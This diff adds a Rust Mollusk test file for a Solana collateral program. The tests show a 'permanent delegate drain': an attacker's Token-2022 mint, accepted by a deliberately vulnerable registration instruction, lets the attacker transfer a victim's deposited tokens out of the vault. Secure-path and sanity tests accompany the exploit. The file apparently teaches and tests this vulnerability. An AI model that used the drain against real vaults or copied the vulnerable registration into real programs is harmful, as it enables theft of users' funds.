@@ -0,0 +1,359 @@
+/// # Pattern 195: Permanent Delegate Drain — Mollusk Exploit Tests
+///
+/// The attacker's Token-2022 mint names the attacker as permanent delegate.
+/// It's listed as collateral and a victim deposits 1,000 tokens.
+///
+/// - Test 1: EXPLOIT — the vulnerable registration lists the mint; after the
+///   deposit, the attacker transfers the whole vault to themselves.
+/// - Test 2: SECURE — the same mint is rejected at registration.
+/// - Test 3: SANITY — a Token-2022 mint without the extension registers.
+/// - Test 4: SANITY — for a vault of that plain mint, the same transfer
+///   from the attacker fails in Token-2022.
+///
+/// Deposits and the drain run in Token-2022, so `spl_token_2022.so` must be
+/// in SBF_OUT_DIR (see the pattern README).
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, executable_account, ix_discriminator, owned_account};
+use test_harness::token::{push_extension, token_account, Mint, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("3hKCm4rEX4aj1KStxx42kd1uHmoLY8nuFAP55GZhazpG");
+const TOKEN_2022_PROGRAM_ID: Pubkey =
+    solana_sdk::pubkey!("TokenzQdBNbLqP5VEhdkAS6EPFLC1PHnBqCXEpPxuEb");
+
+const DECIMALS: u8 = 6;
+const DEPOSIT: u64 = 1_000;
+
+// Token-2022 layout constants
+const EXTENSION_PERMANENT_DELEGATE: u16 = 12;
+const IX_TRANSFER_CHECKED: u8 = 12;
+
+// Error codes
+const PERMANENT_DELEGATE: u32 = 6000;
+const TOKEN_OWNER_MISMATCH: u32 = 4; // Token-2022 TokenError::OwnerMismatch
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Collateral account:
+///   [8 disc][32 admin][32 mint][8 total_deposits][1 vault_authority_bump][1 bump]
+fn serialize_collateral(
+    admin: &Pubkey,
+    mint: &Pubkey,
+    total_deposits: u64,
+    vault_authority_bump: u8,
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(82);
+    data.extend_from_slice(&account_discriminator("Collateral"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(&total_deposits.to_le_bytes());
+    data.push(vault_authority_bump);
+    data.push(bump);
+    data
+}
+
+/// Serialize a Token-2022 mint. With a `delegate`, it carries a
+/// PermanentDelegate extension: [32 delegate]
+fn serialize_mint(delegate: Option<&Pubkey>) -> Vec<u8> {
+    let mut data = Mint {
+        mint_authority: Some(Pubkey::new_unique()),
+        supply: 1_000_000,
+        decimals: DECIMALS,
+        ..Mint::default()
+    }
+    .pack();
+    if let Some(delegate) = delegate {
+        push_extension(&mut data, EXTENSION_PERMANENT_DELEGATE, delegate.as_ref());
+    }
+    data
+}
+
+fn mint_account(delegate: Option<&Pubkey>) -> AccountSharedData {
+    owned_account(&serialize_mint(delegate), 10_000_000, &TOKEN_2022_PROGRAM_ID)
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(1_000_000_000, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "permanent_delegate");
+    mollusk.add_program(
+        &TOKEN_2022_PROGRAM_ID,
+        "spl_token_2022",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+/// Keys for one collateral mint, its vault, and the people around it.
+struct Scenario {
+    mint: Pubkey,
+    collateral: Pubkey,
+    collateral_bump: u8,
+    vault_authority: Pubkey,
+    vault_authority_bump: u8,
+    vault: Pubkey,
+    admin: Pubkey,
+    victim: Pubkey,
+    victim_ata: Pubkey,
+    attacker: Pubkey,
+    attacker_ata: Pubkey,
+}
+
+impl Scenario {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let (collateral, collateral_bump) =
+            Pubkey::find_program_address(&[b"collateral", mint.as_ref()], &PROGRAM_ID);
+        let (vault_authority, vault_authority_bump) =
+            Pubkey::find_program_address(&[b"vault_authority", mint.as_ref()], &PROGRAM_ID);
+        Self {
+            mint,
+            collateral,
+            collateral_bump,
+            vault_authority,
+            vault_authority_bump,
+            vault: Pubkey::new_unique(),
+            admin: Pubkey::new_unique(),
+            victim: Pubkey::new_unique(),
+            victim_ata: Pubkey::new_unique(),
+            attacker: Pubkey::new_unique(),
+            attacker_ata: Pubkey::new_unique(),
+        }
+    }
+
+    fn collateral_data(&self, total_deposits: u64) -> Vec<u8> {
+        serialize_collateral(
+            &self.admin,
+            &self.mint,
+            total_deposits,
+            self.vault_authority_bump,
+            self.collateral_bump,
+        )
+    }
+
+    fn collateral_account(&self, total_deposits: u64) -> AccountSharedData {
+        let data = self.collateral_data(total_deposits);
+        let mut account = AccountSharedData::new(5_000_000, data.len(), &PROGRAM_ID);
+        account.set_data_from_slice(&data);
+        account
+    }
+
+    fn register_ix(&self, name: &str) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator(name),
+            vec![
+                AccountMeta::new(self.collateral, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new_readonly(self.vault_authority, false),
+                AccountMeta::new(self.admin, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn register_accounts(&self, mint: AccountSharedData) -> Vec<(Pubkey, AccountSharedData)> {
+        vec![
+            (self.collateral, AccountSharedData::default()),
+            (self.mint, mint),
+            (self.vault_authority, AccountSharedData::default()),
+            (self.admin, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ]
+    }
+
+    fn deposit_ix(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("deposit").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.collateral, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new(self.victim_ata, false),
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new_readonly(self.vault_authority, false),
+                AccountMeta::new_readonly(self.victim, true),
+                AccountMeta::new_readonly(TOKEN_2022_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    /// Token-2022 TransferChecked from the vault to the attacker's account,
+    /// signed by the attacker alone.
+    fn drain_ix(&self, amount: u64) -> Instruction {
+        let mut data = vec![IX_TRANSFER_CHECKED];
+        data.extend_from_slice(&amount.to_le_bytes());
+        data.push(DECIMALS);
+        Instruction::new_with_bytes(
+            TOKEN_2022_PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new(self.attacker_ata, false),
+                AccountMeta::new_readonly(self.attacker, true),
+            ],
+        )
+    }
+
+    fn drain_accounts(
+        &self,
+        mint: AccountSharedData,
+        vault: AccountSharedData,
+    ) -> Vec<(Pubkey, AccountSharedData)> {
+        vec![
+            (self.vault, vault),
+            (self.mint, mint),
+            (
+                self.attacker_ata,
+                token_account(&TOKEN_2022_PROGRAM_ID, &self.mint, &self.attacker, 0),
+            ),
+            (self.attacker, system_account()),
+        ]
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_permanent_delegate_drains_vault() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The attacker's mint is registered with the vulnerable
+    // instruction. The victim deposits 1,000 tokens. The attacker then
+    // calls Token-2022 directly: transfer_checked from the vault, signed
+    // only by the attacker as permanent delegate.
+    //
+    // Expected: All three SUCCEED — the vault ends at 0 while the
+    //           collateral record still reports 1,000 deposited.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let s = Scenario::new();
+    let mint = mint_account(Some(&s.attacker));
+
+    // 1. Listing
+    let opened = s.collateral_data(0);
+    mollusk.process_and_validate_instruction(
+        &s.register_ix("register_collateral_vulnerable"),
+        &s.register_accounts(mint.clone()),
+        &[
+            Check::success(),
+            Check::account(&s.collateral).data(&opened).build(),
+        ],
+    );
+
+    // 2. Victim deposits
+    let vault_full = TokenAccount::new(&s.mint, &s.vault_authority, DEPOSIT).pack();
+    let booked = s.collateral_data(DEPOSIT);
+    let result = mollusk.process_and_validate_instruction(
+        &s.deposit_ix(DEPOSIT),
+        &[
+            (s.collateral, s.collateral_account(0)),
+            (s.mint, mint.clone()),
+            (s.victim_ata, token_account(&TOKEN_2022_PROGRAM_ID, &s.mint, &s.victim, DEPOSIT)),
+            (s.vault, token_account(&TOKEN_2022_PROGRAM_ID, &s.mint, &s.vault_authority, 0)),
+            (s.vault_authority, AccountSharedData::default()),
+            (s.victim, system_account()),
+            (
+                TOKEN_2022_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ],
+        &[
+            Check::success(),
+            Check::account(&s.vault).data(&vault_full).build(),
+            Check::account(&s.collateral).data(&booked).build(),
+        ],
+    );
+    let vault = result.resulting_accounts[3].1.clone();
+
+    // 3. The delegate empties the vault
+    let vault_empty = TokenAccount::new(&s.mint, &s.vault_authority, 0).pack();
+    let stolen = TokenAccount::new(&s.mint, &s.attacker, DEPOSIT).pack();
+    mollusk.process_and_validate_instruction(
+        &s.drain_ix(DEPOSIT),
+        &s.drain_accounts(mint, vault),
+        &[
+            Check::success(),
+            Check::account(&s.vault).data(&vault_empty).build(),
+            Check::account(&s.attacker_ata).data(&stolen).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_permanent_delegate_mint() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same mint through register_collateral_secure.
+    //
+    // Expected: FAILS with PermanentDelegate (6000) — nobody can deposit
+    //           into a vault that was never listed.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let s = Scenario::new();
+
+    mollusk.process_and_validate_instruction(
+        &s.register_ix("register_collateral_secure"),
+        &s.register_accounts(mint_account(Some(&s.attacker))),
+        &[Check::err(ProgramError::Custom(PERMANENT_DELEGATE))],
+    );
+}
+
+#[test]
+fn sanity_plain_mint_registers_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: A Token-2022 mint with no extensions.
+    //
+    // Expected: SUCCEEDS — the collateral record is created.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let s = Scenario::new();
+
+    let opened = s.collateral_data(0);
+    mollusk.process_and_validate_instruction(
+        &s.register_ix("register_collateral_secure"),
+        &s.register_accounts(mint_account(None)),
+        &[
+            Check::success(),
+            Check::account(&s.collateral).data(&opened).build(),
+        ],
+    );
+}
+
+#[test]
+fn sanity_plain_mint_vault_cannot_be_drained() {
+    // -----------------------------------------------------------------------
+    // SANITY: The attacker's transfer_checked against a vault of a plain
+    // Token-2022 mint holding 1,000 tokens.
+    //
+    // Expected: FAILS with Token-2022 OwnerMismatch (4) — without the
+    //           extension, only the vault authority PDA can move its tokens.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let s = Scenario::new();
+
+    mollusk.process_and_validate_instruction(
+        &s.drain_ix(DEPOSIT),
+        &s.drain_accounts(
+            mint_account(None),
+            token_account(&TOKEN_2022_PROGRAM_ID, &s.mint, &s.vault_authority, DEPOSIT),
+        ),
+        &[Check::err(ProgramError::Custom(TOKEN_OWNER_MISMATCH))],
+    );
+}